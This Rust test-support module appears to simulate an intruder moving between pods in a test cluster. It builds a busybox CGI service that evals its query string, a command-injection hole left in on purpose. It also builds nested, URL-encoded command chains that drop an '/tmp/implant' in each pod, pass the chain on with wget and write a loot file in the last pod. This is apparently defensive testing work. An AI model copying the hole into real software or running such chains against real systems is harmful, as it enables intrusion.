//! A service with a hole, and an intruder who goes from one to the next.

use std::time::{Duration, Instant};

use crate::{
    pods::{Node, Pod, PodSpec},
    told::busybox,
};

/// What is asked of it is run, unless it is `ping`, or `peer=ADDRESS` whose ping is handed on.
const SERVICE: &str = r#"mkdir -p /www/cgi-bin
printf '%s\n' '#!/bin/sh' 'printf "Content-Type: text/plain\r\n\r\n"' \
  'case "$QUERY_STRING" in ping) echo pong ;;' \
  'peer=*) /bin/wget -q -O - "http://${QUERY_STRING#peer=}:8080/cgi-bin/status?ping" ;;' \
  '*) eval "$(/bin/httpd -d "$QUERY_STRING")" ;; esac' > /www/cgi-bin/status
chmod 755 /www/cgi-bin/status
exec /bin/httpd -f -p 8080 -h /www"#;

/// A pod `shop/NAME` with that service, which answers.
pub fn service(node: &Node, name: &str) -> Pod {
    let spec = PodSpec::new("shop", name).label("app", name);
    let pod = node.run(spec.container(busybox("app", SERVICE)));
    assert_eq!(ask(node, &pod, "ping"), "pong\n");
    pod
}

pub fn ask(node: &Node, pod: &Pod, what: &str) -> String {
    let (status, body) =
        node.get(&format!("{}:8080", pod.ip()), &format!("/cgi-bin/status?{what}"));
    assert_eq!(status, 200, "{body}");
    body
}

/// As in a URL.
pub fn quoted(text: &str) -> String {
    let one = |byte: u8| match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => char::from(byte).to_string(),
        other => format!("%{other:02X}"),
    };
    text.bytes().map(one).collect()
}

/// What is done in a pod: look around, drop a tool and run it; then the same in the next pod, reached from here. The last one
/// is robbed.
pub fn commands(pods: &[&Pod]) -> String {
    let Some((_, rest)) = pods.split_first() else { return String::new() };
    let tool = "/bin/id; /bin/cp /bin/busybox /tmp/implant; /tmp/implant uname -a";
    match rest.first() {
        Some(next) => {
            let inside = quoted(&commands(rest));
            let url = format!("http://{}:8080/cgi-bin/status?{inside}", next.ip());
            format!("{tool}; /bin/wget -q -O - '{url}'")
        }
        None => format!("{tool}; echo stolen > /tmp/loot"),
    }
}

/// SHA-256 of what is in `/tmp/loot`.
pub const LOOT: &str = "79af9180a3a8399a5b359b797a680f16d983e9ff2c7d42097a2e285760f48fc9";

/// Waits until a pod of another node answers here.
pub fn wait_for_way(from: &Node, pod: &Pod, to: &Pod) {
    let end = Instant::now() + Duration::from_secs(10);
    while ask(from, pod, &format!("peer={}", to.ip())) != "pong\n" {
        assert!(Instant::now() < end, "no way from {} to {}", pod.spec.name, to.spec.name);
        std::thread::sleep(Duration::from_millis(200));
    }
}
